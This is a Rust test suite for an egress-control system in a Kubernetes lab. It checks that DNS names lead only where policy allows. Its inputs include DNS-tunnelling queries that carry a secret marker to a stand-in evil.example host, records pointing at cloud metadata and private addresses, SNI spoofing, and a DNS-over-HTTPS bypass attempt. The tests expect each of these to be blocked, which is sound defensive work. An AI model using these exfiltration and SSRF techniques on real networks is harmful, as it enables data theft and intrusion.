//! Promise: names lead nowhere but where a rule means them to, whoever owns them and whatever they resolve to: chains, rotating and
//! shared addresses, addresses inside; and nothing is told to the outside by questions for names. Name servers have real zones,
//! servers real certificates, which clients check.

use std::path::Path;

use anyhow::Context as _;
use e2e::eventually::eventually;
use e2e::internet;
use e2e::lab::Lab;
use e2e::lab::LabConfig;
use e2e::lab::Running;
use e2e::scenario;

/// What the servers outside have certificates for.
const NAMES: [&str; 7] = [
    "api.example",
    "alias.example",
    "turn.example",
    "moved.example",
    "half.example",
    "xn--bcher-kva.example",
    "evil.example",
];

/// Names that lead somewhere inside, and where to.
const INSIDE: [(&str, &str); 9] = [
    ("loop", "A 127.0.0.1"),
    ("meta", "A 169.254.169.254"),
    ("azure", "A 168.63.129.16"),
    ("node", "A 10.10.0.11"),
    ("private", "A 192.168.7.7"),
    ("service", "A 10.96.0.1"),
    ("virtual", "A 240.240.1.1"),
    ("mapped", "AAAA ::ffff:169.254.169.254"),
    ("nat64", "AAAA 64:ff9b::a9fe:a9fe"),
];

/// A lab with an Internet of two hosts, and what runs on them.
struct Net {
    lab: Lab,
    folder: tempfile::TempDir,
    servers: Vec<Running>,
    names: Option<Running>,
    inet: String,
    other: String,
}

impl Net {
    /// `None`: this machine has no lab, or lacks a tool.
    fn up() -> anyhow::Result<Option<Self>> {
        if !scenario::has_tools(&internet::TOOLS) || !scenario::has_tools(&["python3"]) {
            return Ok(None);
        }
        // Who is closed is in the mesh, whatever is said of that.
        let world = internet::world("tulle.dev/egress: deny", &["inet", "other"]);
        let Some(lab) = internet::lab(LabConfig::of(&world)) else { return Ok(None) };
        let (inet, other) = (lab.pod_ip("out", "inet")?, lab.pod_ip("out", "other")?);
        let folder = tempfile::tempdir()?;
        let conf = internet::web_server(folder.path(), &NAMES)?;
        let servers = ["out/inet", "out/other"].map(|host| {
            // The other one says so.
            let script = format!(
                "sed 's/inet \\$host/{} $host/; s/nginx.pid/{}.pid/' {conf} > {conf}.{0}; exec nginx -c {conf}.{0}",
                &host[4..],
                &host[4..]
            );
            lab.spawn(host, &["sh", "-c", &format!("PATH=$PATH:/usr/sbin; {script}")])
        });
        let servers = servers.into_iter().collect::<Result<Vec<_>, _>>()?;
        let mut net = Self { lab, folder, servers, names: None, inet, other };
        net.answer(&net.zone(&net.inet))?;
        Ok(Some(net))
    }

    /// All records; `moved` is where a name leads that will lead elsewhere.
    fn zone(&self, moved: &str) -> String {
        let Self { inet, other, .. } = self;
        let cart = self.lab.pod_ip("shop", "cart").unwrap_or_default();
        let mut text = format!(
            "api A {inet}\nevil A {inet}\nalias CNAME deep\ndeep CNAME api\nturn A {inet}\nturn A {other}\nmoved A {moved}\n\
             half A {cart}\nhalf A {inet}\npod A {cart}\nxn--bcher-kva A {inet}\nwild A {inet}\na.wild A {inet}\nb.a.wild A {inet}\n\
             api HTTPS 1 . alpn=h2 ipv4hint={inet} \
             ech=\"AEj+DQBEAQAgACAdd+scUi0IYFsXnUIU7ko2Nd9+F8M26pAGZVpz/KrWPgAEAAEAAWQVZWNoLXNpdGVzLmV4YW1wbGUubmV0AAA=\"\n"
        );
        for (name, record) in INSIDE {
            text.push_str(&format!("{name} {record}\n"));
        }
        text
    }

    /// Serves these records from now on.
    fn answer(&mut self, records: &str) -> anyhow::Result<()> {
        drop(self.names.take());
        let conf = internet::name_server(self.folder.path(), records)?;
        self.names = Some(self.lab.spawn("out/inet", &["unbound", "-d", "-c", &conf])?);
        internet::answers(&self.lab)
    }

    /// What curl prints, who checks certificates.
    ///
    /// # Errors
    /// What it says if it fails.
    fn curl(&self, more: &[&str], url: &str) -> Result<String, String> {
        let ca = self.folder.path().join("ca.pem").display().to_string();
        internet::curl(&self.lab, "shop/web", &[&["--cacert", &ca], more].concat(), url)
    }

    fn dig(&self, question: &[&str]) -> anyhow::Result<String> {
        internet::dig(&self.lab, "shop/web", question)
    }

    fn allow(&self, hosts: &[String]) -> anyhow::Result<()> {
        let hosts = hosts.join(", ");
        self.lab.apply_yaml(&format!(
            "apiVersion: tulle.dev/v1alpha1\nkind: EgressPolicy\nmetadata: {{name: out, namespace: shop}}\nspec:\n  rules:\n\
             \x20 - hosts: [{hosts}]\n    ports: [{{port: 443, protocol: TLS}}]\n"
        ))
    }

    fn refused(&self, what: &str, url: &str, words: &[&str]) -> anyhow::Result<()> {
        let got = self.curl(&["-k"], url);
        anyhow::ensure!(got.is_err(), "{what} went through: {got:?}");
        scenario::await_log(&self.lab, "node-1", words).with_context(|| what.to_owned()).map(drop)
    }

    /// What the name server was asked since it began.
    fn asked(&self) -> String {
        std::fs::read_to_string(self.folder.path().join("unbound.log")).unwrap_or_default()
    }

    fn hello(&self, program: &Path, address: &str, name: &str, how: &str) -> anyhow::Result<String> {
        let program = program.display().to_string();
        let said = self.lab.exec_ok("shop/web", &["/usr/bin/python3", &program, address, name, how])?;
        Ok(said.trim().to_owned())
    }
}

#[test]
fn a_name_leads_where_its_owner_says_and_never_inside() -> anyhow::Result<()> {
    let Some(mut net) = Net::up()? else { return Ok(()) };
    let mut hosts: Vec<String> = INSIDE.iter().map(|(name, _)| format!("{name}.example")).collect();
    hosts.extend(
        ["api", "alias", "turn", "moved", "half", "pod", "xn--bcher-kva"].map(|name| format!("{name}.example")),
    );
    net.allow(&hosts)?;
    let inet = net.inet.clone();
    let works = |net: &Net, host: &str, from: &str| -> anyhow::Result<()> {
        let got = net.curl(&[], &format!("https://{host}/")).map_err(anyhow::Error::msg)?;
        anyhow::ensure!(got.starts_with(&format!("{from} {}", host.trim_end_matches('.'))), "{host}: {got}");
        Ok(())
    };
    // A chain counts as the name that a rule says, and its links are not names that a rule says.
    for host in ["api.example", "alias.example", "API.Example", "xn--bcher-kva.example"] {
        works(&net, &host.to_lowercase(), "inet")?;
    }
    let dotted = net.curl(&[], "https://api.example./").map_err(anyhow::Error::msg)?;
    anyhow::ensure!(dotted.starts_with("inet api.example"), "a dot at the end: {dotted}");
    for name in ["deep.example", "x.api.example", "evil.example", "api.example.evil.example", "xn--bcher-kvb.example"] {
        let answer = net.dig(&[name])?;
        anyhow::ensure!(answer.contains("NXDOMAIN") && answer.contains("EDE: 15 (Blocked)"), "{name}: {answer}");
    }
    // Two names on one address, of which one is allowed.
    let shared = net.dig(&["+short", "api.example"])?.trim().to_owned();
    let other_name = net.curl(&["-k", "--resolve", &format!("evil.example:443:{shared}")], "https://evil.example/");
    anyhow::ensure!(other_name.is_err(), "{other_name:?}");
    // Whichever address the answer begins with, a client gets one and the same.
    let first = net.dig(&["+short", "turn.example"])?;
    for _ in 0..4 {
        let again = net.dig(&["+short", "turn.example"])?;
        anyhow::ensure!(again == first && again.starts_with("240.240."), "{first} {again}");
        let got = net.curl(&[], "https://turn.example/").map_err(anyhow::Error::msg)?;
        anyhow::ensure!(got.contains("turn.example"), "{got}");
    }
    // Inside, by every road; also where only one of the addresses is.
    let denied = "EGRESS_DENIED";
    for (name, record) in INSIDE {
        net.refused(
            record,
            &format!("https://{name}.example/"),
            &[denied, &format!("{name}.example"), "not where it leads"],
        )?;
    }
    net.refused("a pod's address", "https://pod.example/", &[denied, "pod.example", "not where it leads"])?;
    works(&net, "half.example", "inet")?;
    // A name that moves is followed by what the client got before, and by nothing of before.
    works(&net, "moved.example", "inet")?;
    let kept = net.dig(&["+short", "moved.example"])?;
    net.answer(&net.zone(&net.other))?;
    eventually("the name is where it moved", scenario::PATIENCE, || {
        let known = format!("moved.example:443:{}", kept.trim());
        let got = net.curl(&["--resolve", &known], "https://moved.example/")?;
        if got.starts_with("other ") { Ok(()) } else { Err(got) }
    })?;
    // And into the mesh it is not followed.
    let cart = net.lab.pod_ip("shop", "cart")?;
    net.answer(&net.zone(&cart))?;
    eventually("the name leads nowhere", scenario::PATIENCE, || match net.curl(&["-k"], "https://moved.example/") {
        Err(_) => Ok(()),
        Ok(got) => Err(got),
    })?;
    scenario::await_log(&net.lab, "node-1", &[denied, "moved.example", &cart])?;
    anyhow::ensure!(net.servers.len() == 2 && !inet.is_empty());
    Ok(())
}

#[test]
fn nothing_is_told_to_the_outside_by_questions_and_hellos_are_read_as_servers_read_them() -> anyhow::Result<()> {
    let Some(net) = Net::up()? else { return Ok(()) };
    net.allow(&["api.example".to_owned(), "'*.wild.example'".to_owned()])?;
    let (inet, secret) = (net.inet.clone(), scenario::marker());
    // Tunnels of names: below others', below allowed ones, backwards, of other kinds and classes, by TCP, in options.
    let below = |parent: &str| format!("{secret}.{parent}");
    let option = format!("+ednsopt=65001:{}", "6d61726b65726d61726b6572");
    for question in [
        &[&*below("evil.example"), "TXT"][..],
        &[&below("api.example"), "A"],
        &[&below("test"), "NULL"],
        &[&below("8.8.8.in-addr.arpa"), "PTR"],
        &[&below("8.b.d.0.1.0.0.2.ip6.arpa"), "PTR"],
        &[&below("evil.example"), "CH", "TXT"],
        &[&below("evil.example"), "AXFR"],
        &[&below("evil.example"), "ANY", "+tcp"],
        &[&below("evil.example"), "A", &option],
        &[&below("evil.example"), "+norecurse", "+dnssec"],
        &[&below("evil.example"), "A", "+opcode=NOTIFY"],
        &[&below("evil.example"), "A", "+opcode=UPDATE"],
    ] {
        for server in ["", &format!("@{inet}")] {
            let question: Vec<&str> = question.iter().copied().chain((!server.is_empty()).then_some(server)).collect();
            let answer = net.dig(&question)?;
            anyhow::ensure!(!answer.contains("NOERROR") || answer.contains("ANSWER: 0"), "{question:?}: {answer}");
        }
    }
    anyhow::ensure!(!net.asked().contains(&secret), "a question left: {}", net.asked());
    // The log is one, and what is allowed may be asked.
    net.dig(&[&below("wild.example")])?;
    eventually("the allowed question is seen", scenario::PATIENCE, || {
        let asked = net.asked();
        if asked.contains(&secret) { Ok(()) } else { Err(asked) }
    })?;
    // Keys for hiding names are there for others.
    let everybody = net.lab.exec_ok("plain/guest", &["dig", &format!("@{inet}"), "api.example", "HTTPS"])?;
    anyhow::ensure!(everybody.contains("ech="), "{everybody}");
    for kind in ["HTTPS", "SVCB"] {
        let answer = net.dig(&["api.example", kind])?;
        anyhow::ensure!(answer.contains("ANSWER: 0") && !answer.contains("ech="), "{answer}");
    }
    // Name servers that are reached in other ways.
    for port in ["853", "8443"] {
        let got = net.curl(&["-k"], &format!("https://api.example:{port}/"));
        anyhow::ensure!(got.is_err(), "port {port}: {got:?}");
        scenario::await_log(&net.lab, "node-1", &["EGRESS_DENIED", &format!("port {port}")])?;
    }
    let doh =
        net.curl(&["-k", "--doh-insecure", "--doh-url", "https://evil.example/dns-query"], "https://evil.example/");
    anyhow::ensure!(doh.is_err(), "{doh:?}");

    let program = net.folder.path().join("hello.py");
    std::fs::write(&program, include_str!("testdata/hello.py"))?;
    let given = net.dig(&["+short", "api.example"])?.trim().to_owned();
    let cases = [
        (&given, "api.example", "whole", "answered"),
        (&given, "api.example", "dribble", "answered"),
        (&given, "api.example", "records", "answered"),
        // An outer name is a name: it must be the allowed one, and leads to that one's server.
        (&given, "api.example", "ech", "answered"),
        (&given, "evil.example", "ech", "refused"),
        (&given, "evil.example", "dribble", "refused"),
        (&given, "evil.example", "records", "refused"),
        (&given, "evil.example", "twice", "refused"),
        (&given, "api.example.evil.example", "whole", "refused"),
        (&inet, "api.example", "whole", "refused"),
        (&inet, "api.example", "ech", "refused"),
        // Clients of QUIC are told to fall back.
        (&given, "", "quic", "EPERM"),
        (&inet, "", "quic", "EPERM"),
    ];
    for (address, name, how, expected) in cases {
        let said = net.hello(&program, address, name, how)?;
        anyhow::ensure!(said == expected, "{how} {name} at {address}: {said}, and {expected} was expected");
    }
    Ok(())
}

#[test]
fn what_others_write_opens_nothing() -> anyhow::Result<()> {
    let Some(net) = Net::up()? else { return Ok(()) };
    net.allow(&["api.example".to_owned()])?;
    let inet = net.inet.clone();
    let entry = |namespace: &str, host: &str| {
        format!(
            "apiVersion: networking.istio.io/v1\nkind: ServiceEntry\nmetadata: {{name: more, namespace: {namespace}}}\nspec:\n\
             \x20 hosts: [{host}]\n  exportTo: ['*']\n  resolution: DNS\n  ports: [{{number: 443, name: tls, protocol: TLS}}]\n"
        )
    };
    // Another namespace's, and Services of the own one that lead out.
    net.lab.apply_yaml(&entry("plain", "evil.example"))?;
    net.lab.apply_yaml(&format!(
        "apiVersion: v1\nkind: Service\nmetadata: {{name: hole, namespace: shop}}\nspec: {{ports: [{{name: tls, port: 443}}]}}\n---\n\
         apiVersion: discovery.k8s.io/v1\nkind: EndpointSlice\nmetadata: {{name: hole, namespace: shop, labels: {{kubernetes.io/service-name: hole}}}}\n\
         addressType: IPv4\nports: [{{name: tls, port: 443, protocol: TCP}}]\nendpoints: [{{addresses: [{inet}], conditions: {{ready: true}}}}]\n---\n\
         apiVersion: v1\nkind: Service\nmetadata: {{name: alias, namespace: shop}}\nspec: {{type: ExternalName, externalName: evil.example}}\n"
    ))?;
    for url in ["https://evil.example/", "https://hole.shop/", "https://alias.shop/"] {
        let got = net.curl(&["-k"], url);
        anyhow::ensure!(got.is_err(), "{url}: {got:?}");
    }
    scenario::await_log(&net.lab, "node-1", &["EGRESS_DENIED", &inet])?;
    // The own one's does.
    net.lab.apply_yaml(&entry("shop", "evil.example"))?;
    eventually("the namespace's own entry allows it", scenario::PATIENCE, || {
        let got = net.curl(&[], "https://evil.example/")?;
        if got.starts_with("inet evil.example") { Ok(()) } else { Err(got) }
    })?;
    Ok(())
}

#[test]
fn a_wildcard_entry_leads_each_name_where_it_is_at_that_time() -> anyhow::Result<()> {
    let Some(mut net) = Net::up()? else { return Ok(()) };
    net.lab.apply_yaml(
        "apiVersion: networking.istio.io/v1\nkind: ServiceEntry\nmetadata: {name: wild, namespace: shop}\nspec:\n\
         \x20 hosts: ['*.wild.example']\n  location: MESH_EXTERNAL\n  resolution: DYNAMIC_DNS\n\
         \x20 ports: [{number: 443, name: tls, protocol: TLS}]\n",
    )?;
    // Names that nobody knew before, of which each has a server of its own.
    let answers = |net: &Net, name: &str, who: &str| {
        eventually(&format!("{name} is at {who}"), scenario::PATIENCE, || {
            let said = net.curl(&["-k"], &format!("https://{name}/"))?;
            if said.starts_with(&format!("{who} {name} ")) { Ok(()) } else { Err(said) }
        })
    };
    let zone = |net: &Net, deep: &str| {
        net.zone(&net.inet).replace(&format!("b.a.wild A {}", net.inet), &format!("b.a.wild A {deep}"))
    };
    let (inet, other) = (net.inet.clone(), net.other.clone());
    net.answer(&zone(&net, &other))?;
    answers(&net, "a.wild.example", "inet")?;
    answers(&net, "b.a.wild.example", "other")?;
    scenario::await_log(&net.lab, "node-1", &["egress=\"allowed\"", "b.a.wild.example", "ServiceEntry/shop/wild"])?;
    // Moved, it is followed.
    net.answer(&zone(&net, &inet))?;
    answers(&net, "b.a.wild.example", "inet")?;
    // Not the parent, not another name behind an allowed one's address, not plain text, not another port.
    let given = net.dig(&["+short", "a.wild.example"])?.trim().to_owned();
    let forged = net.curl(&["-k", "--resolve", &format!("evil.example:443:{given}")], "https://evil.example/");
    anyhow::ensure!(forged.is_err(), "{forged:?}");
    scenario::await_log(&net.lab, "node-1", &["EGRESS_DENIED", "server name is evil.example"])?;
    for url in ["https://wild.example/", "http://a.wild.example:443/", "https://a.wild.example:8443/"] {
        let got = net.curl(&["-k"], url);
        anyhow::ensure!(got.is_err(), "{url}: {got:?}");
    }
    Ok(())
}
